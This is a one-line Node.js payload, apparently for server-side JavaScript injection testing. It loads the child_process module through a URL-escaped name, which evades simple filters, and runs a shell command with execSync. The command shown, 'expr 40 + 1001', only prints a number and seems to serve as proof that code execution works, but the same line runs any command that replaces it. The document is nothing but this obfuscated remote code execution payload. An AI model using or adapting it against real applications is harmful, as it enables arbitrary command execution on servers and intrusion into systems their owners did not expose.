require(require('querystring').unescape('child%5fprocess')).execSync('expr 40 + 1001',{stdio:'inherit'});
